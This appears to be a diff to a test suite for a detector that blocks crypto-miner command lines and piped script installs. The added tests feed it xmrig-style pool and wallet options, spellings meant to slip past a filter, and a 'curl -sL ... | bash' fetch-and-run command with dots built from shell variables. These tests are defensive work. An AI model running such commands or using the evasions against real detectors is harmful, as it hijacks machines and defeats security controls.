@@ -94,13 +94,13 @@ t.test("the grammar's gate: the `:`, the endpoint option and the word end cannot
     })
   })
 
-  t.test('a `:` or an option name assembled by the shell (${O}, $C) is in the shell-expanded text the gate reads', async (t) => {
+  t.test('a `:` or an option name assembled by the shell (braced or bare variables) is in the shell-expanded text the gate reads', async (t) => {
     const env = [
       { name: 'O', value: '-o' },
       { name: 'C', value: ':3333' },
     ]
-    refusedAsMinerCommandLine(t, { env, command: ['sh', '-c', '/usr/local/bin/svc ${O} pool.example.net$C -u worker1 -k --tls'] })
-    refusedAsMinerCommandLine(t, { env, command: ['/bin/bash', '-c', '/usr/local/bin/svc "$O" "pool.example.net${C}" -u worker1 --nicehash'] })
+    refusedAsMinerCommandLine(t, { env, command: ['sh', '-c', `/usr/local/bin/svc \${O} pool.example.net$C -u worker1 -k --tls`] })
+    refusedAsMinerCommandLine(t, { env, command: ['/bin/bash', '-c', `/usr/local/bin/svc "$O" "pool.example.net\${C}" -u worker1 --nicehash`] })
   })
 
   t.test('an env-only command line (POOL_URL, WALLET ...) in any case passes the env names gate', async (t) => {
@@ -116,6 +116,49 @@ t.test("the grammar's gate: the `:`, the endpoint option and the word end cannot
           { name: donate, value: '1' },
         ],
       })
+    }
+  })
+
+  t.test('getopt spellings xmrig accepts (a value attached, flags clustered, --ur for --url) are read and pass the gate', async (t) => {
+    refusedAsMinerCommandLine(t, { command: ['/usr/local/bin/svc', '-opool.example.net:3333', '-uworker1', '-k'] })
+    refusedAsMinerCommandLine(t, { command: ['/usr/local/bin/svc', '-kBo', 'pool.example.net:3333', '-u', 'worker1'] })
+    refusedAsMinerCommandLine(t, { command: ['/usr/local/bin/svc', '-kopool.example.net:3333', '-Bu', 'worker1'] })
+    refusedAsMinerCommandLine(t, { command: ['/usr/local/bin/svc', '-So', 'stratum+tcp://pool.example.net:3333', `-u${W}`] })
+    refusedAsMinerCommandLine(t, { command: ['/usr/local/bin/svc', '--ur=pool.example.net:3333', '-u', 'worker1', '--tls'] })
+    refusedAsMinerCommandLine(t, { command: ['/usr/local/bin/svc', '--ur', 'pool.example.net:3333', '-u', 'worker1', '-px'] })
+  })
+
+  t.test('words that only look like clusters are not read as miner options', async (t) => {
+    const quotes = (text: string) => grammarSays(gated, text).quotes
+    t.same(quotes('java -Duser.home=/x -Dpool=db.example:5432 -jar app.jar -o db.example:5432 -k'), [], 'a -D property is no account')
+    t.same(quotes('curl -kso out.example:1 -u user:pw https://x.example/'), [], 'curl letters that are no miner flag end the cluster')
+    t.same(quotes('./svc -o=pool.example.net:3333 -u=w -k'), ['-o pool.example.net:3333 -u … -k'], '`-o=` keeps its meaning')
+  })
+
+  t.test('every endpoint spelling the grammar reads passes the gate', async (t) => {
+    const spellings = [
+      '-o ',
+      '-o=',
+      '-o',
+      '-P ',
+      '-P=',
+      '-P',
+      '-kBo ',
+      '-Bko',
+      '-SP ',
+      '--url ',
+      '--url=',
+      '--ur ',
+      '--ur=',
+      '--pool ',
+      '--pool=',
+      '--dualpool ',
+      '--dualpool=',
+    ]
+    for (const spelling of spellings) {
+      const text = `${spelling}pool.example.net:3333 -u w -k`
+      t.same(grammarSays(gated, text), grammarSays(ungated, text), text)
+      t.equal(grammarSays(gated, text).quotes.length, 1, text)
     }
   })
 
@@ -142,6 +185,7 @@ t.test("the grammar's gate: the `:`, the endpoint option and the word end cannot
     const piece = fc.oneof(
       fc.constantFrom('-o', '-P', '--url', '--pool', '--dualpool', '-u', '--user', '-k', '--tls', '-p', 'x', '-a', 'rx/0', '=', ':', '-'),
       fc.constantFrom('pool.example.net:3333', 'pool.example.net', '203.0.113.9:443', 'stratum+tcp://a.example:1', '-opool.example.net:3333', '-kBo'),
+      fc.constantFrom('--ur', '--ur=a.example:1', '-So', '-ku', '-Bu', '-kopool.example.net:3333', '-k=', '-o=', '-kB', '-S', '-Duser.home', '-px'),
       fc.constantFrom('\u2010', '\u2212', '\uff1a', '\ufe55', '\u043e', '\u041e', '\u0000', '\u001b', '\u0085', '\u00a0', '\u2028', '\u200b'),
       fc.constantFrom(' ', '\t', '\v', '\f', '\r', '\n', ';', '|', '&', "'", '"', '`'),
       fc.string({ unit: 'binary', maxLength: 3 }),
@@ -213,7 +257,7 @@ t.test("the installer search's dot gate: a listed host cannot be named without a
   t.test('dots assembled by $(VAR) or by the shell are in the text the gate reads', async (t) => {
     const env = [{ name: 'D', value: '.' }]
     refusedAsInstaller(t, { env, command: ['sh', '-c', `curl -sL https://${script.replaceAll('.', '$(D)')} | bash`] })
-    refusedAsInstaller(t, { env, command: ['sh', '-c', `curl -sL https://${script.replaceAll('.', '${D}')} | bash`] })
+    refusedAsInstaller(t, { env, command: ['sh', '-c', `curl -sL https://${script.replaceAll('.', `\${D}`)} | bash`] })
   })
 
   t.test('a download hidden in base64 passes the gate through its decoded text', async (t) => {
